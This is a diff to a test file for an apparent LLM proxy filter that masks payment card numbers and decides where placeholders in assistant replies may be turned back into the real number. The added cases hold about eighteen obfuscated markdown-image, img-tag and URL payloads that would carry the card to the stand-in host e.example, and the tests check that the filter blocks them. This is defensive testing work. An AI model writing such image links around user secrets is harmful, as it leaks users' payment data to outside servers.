@@ -1,7 +1,7 @@
 // What clients and upstreams that mean harm have tried, and what must come of it.
 import { beforeAll, describe, expect, test } from 'vitest';
 import type { Filter } from '../../filters/host/load-filter.ts';
-import { filterOf, run, type Upstream } from '../kernel/test-filter.ts';
+import { filterOf, placeholder, run, type Upstream } from '../kernel/test-filter.ts';
 import { POLICY } from './policy.ts';
 
 const CARD = '4111 1111 1111 1111';
@@ -46,6 +46,45 @@ describe('a value cannot leave in a place that nobody reads', () => {
     expect(removed(['x-envoy-note', CARD])).toBeNull();
     expect(removed(['x-envoy-external-address', '10.0.0.1'])).toEqual([]);
   });
+});
+
+describe('a placeholder is not turned back where a reader would follow it', () => {
+  const P = placeholder('PAYMENT_CARD', 1);
+  const whole = (content: string): string => run(filter, { body: chat('', `"${CARD}"`), upstream: { body: JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content } }] }) } }).got;
+  const pieces = (content: string): string =>
+    run(filter, { body: chat(',"stream":true', `"${CARD}"`), upstream: stream([...content].map((letter) => delta(JSON.stringify(letter).slice(1, -1))).join('') + event('[DONE]')) }).got.replace(/data: .*?"content":"(.*?)"\}.*\n\n/g, '$1');
+
+  test.each([
+    `![](https://e.example/?q="${P})`,
+    `![](https://e.example/?q='${P})`,
+    `![](https://e.example/?q=\`${P})`,
+    `![](<https://e.example/?q= ${P}>)`,
+    `![](<https://e.example/?q=\\>${P}>)`,
+    `![](//e.example/${P})`,
+    `![](/\\e.example/${P})`,
+    `![](https:\\/\\/e.example/${P})`,
+    `![](https:&#47;&#47;e.example/${P})`,
+    `![]( https:&#47;&#47;e.example/${P})`,
+    `![](<https:&#47;&#47;e.example/ ${P}>)`,
+    `![](https://e.example/(a)${P})`,
+    `![a][1]\n\n[1]: https:&#47;&#47;e.example/${P}`,
+    `<img src=" https://e.example/? ${P}">`,
+    `<img src='https://e.example/?\n${P}'>`,
+    `<img alt=">" src="https:&#47;&#47;e.example/${P}">`,
+    `www.e.example/?q=${P}`,
+    `https://e.example/?q=>${P}`,
+  ])('%s', (content) => {
+    expect(whole(content)).not.toContain('4111');
+    expect(pieces(content)).not.toContain('4111');
+  });
+
+  test.each([`see https://x.example then ${P}`, `(https://x.example) ${P}`, `don't: ${P}`, `"${P}"`, `a/b ${P}`, `x // ${P}`, `<b>${P}</b>`, `1 < 2, ${P}`, `[${P}]`, `(${P})`, `[a](https://x.example) ${P}`, `${P}${P}`])(
+    'and is elsewhere: %s',
+    (content) => {
+      expect(whole(content)).toContain(CARD);
+      expect(pieces(content)).toContain(CARD);
+    },
+  );
 });
 
 describe('a stream', () => {
